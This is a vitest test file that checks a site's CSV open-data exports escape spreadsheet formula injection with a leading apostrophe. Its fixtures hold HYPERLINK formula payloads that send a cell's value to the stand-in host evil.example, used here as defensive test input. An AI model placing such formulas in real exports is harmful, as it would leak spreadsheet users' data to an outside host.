/**
 * Formula injection (OWASP "CSV Injection"): a text field that a spreadsheet would read as a
 * formula (starting with = + - @, tab or CR) is written with a leading apostrophe in every CSV
 * download, and read back by a real CSV reader (csv-parse) no field of text starts with one of
 * those characters. Numbers are never touched, and the JSON downloads keep the exact text.
 */
import { parse } from 'csv-parse/sync';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formulaSafe, toCsv } from '../../../src/lib/site/csv.ts';
import { buildSiteIndex } from '../../../src/lib/site/indexes.ts';
import {
	cellsCsv,
	checksCsv,
	openDataReports,
	reportsCsv,
	reportsJson,
} from '../../../src/lib/site/open-data.ts';
import { buildTracker, trackerCsv } from '../../../src/lib/site/tracker.ts';
import type { DivisionTable } from '../../../src/lib/model/division-table.ts';
import { makeEntry } from './entry-factory.ts';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const PAYLOADS = TRIGGERS.map((t) => `${t}HYPERLINK("http://evil.example/?"&A1,"点我")`);

/** A township name, a title, a cell's raw text and a check message: each starting with a trigger. */
const hostile = PAYLOADS.map((payload, i) => {
	const entry = makeEntry({
		code: `61088110${i}`,
		name: payload,
		set: {
			'metadata.title': payload,
			'table3.granted.total': 7,
			cells: { 'table3.granted.total': { raw: payload, line: 3, col: 1, status: 'ok' } },
		},
	});
	entry.record.checks.push({
		id: 'H1',
		severity: 'error',
		status: 'fail',
		scope: 'total',
		formula: 'a = b',
		cells: ['table3.granted.total'],
		expected: -1,
		actual: payload,
		message: payload,
		line: 3,
	});
	return entry;
});

const table: DivisionTable = {
	source: 'test',
	provinces: { '61': '陕西省' },
	prefectures: { '6108': '榆林市' },
	counties: { '610881': '神木市' },
	townships: { '610881': hostile.map((_, i) => `10${i}${PAYLOADS[i]}`) },
};

const CSVS: [string, () => string][] = [
	['reports.csv', () => reportsCsv(openDataReports(hostile))],
	['cells.csv', () => cellsCsv(hostile)],
	['checks.csv', () => checksCsv(hostile)],
	['tracker.csv', () => trackerCsv(buildTracker(buildSiteIndex(hostile).townships, table))],
];

const read = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true });
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

describe('formulaSafe', () => {
	it.each(TRIGGERS)('prefixes %j with an apostrophe', (t) => {
		expect(formulaSafe(`${t}1+1`)).toBe(`'${t}1+1`);
	});
	it('leaves other text, an empty string and a lone apostrophe start alone', () => {
		for (const text of ['店塔镇', '', "'=1", ' =1', '1-2']) expect(formulaSafe(text)).toBe(text);
	});
});

describe('toCsv', () => {
	it('never changes a number, negative ones included', () => {
		const [, row] = read(toCsv(['a', 'b', 'c'], [[-3, 0.5, '-3']]));
		expect(row).toEqual(['-3', '0.5', "'-3"]);
	});
});

describe.each(CSVS)('%s', (_name, build) => {
	const rows = read(build());
	it('contains the payloads (the test really feeds it hostile text)', () => {
		const fields = rows.flat();
		expect(fields.some((f) => PAYLOADS.some((p) => f === `'${p}`))).toBe(true);
	});
	it('has no text field a spreadsheet would run as a formula', () => {
		for (const field of rows.flat())
			if (!NUMBER.test(field)) expect(field, JSON.stringify(field)).not.toMatch(/^[=+\-@\t\r]/);
	});
});

describe('the JSON downloads', () => {
	it('keep the exact text', () => {
		const json = JSON.parse(reportsJson(openDataReports(hostile))) as {
			reports: { record: { metadata: { title: string } } }[];
		};
		expect(json.reports.map((r) => r.record.metadata.title).sort()).toEqual([...PAYLOADS].sort());
	});
});

describe('one CSV writer', () => {
	it('only src/lib/site/csv.ts calls csv-stringify, so every CSV gets the escaping', () => {
		const walk = (dir: string): string[] =>
			readdirSync(dir, { withFileTypes: true }).flatMap((d) =>
				d.isDirectory() ? walk(join(dir, d.name)) : [join(dir, d.name)],
			);
		const users = walk('src').filter((f) => readFileSync(f, 'utf8').includes('csv-stringify'));
		expect(users).toEqual([join('src', 'lib', 'site', 'csv.ts')]);
	});
});
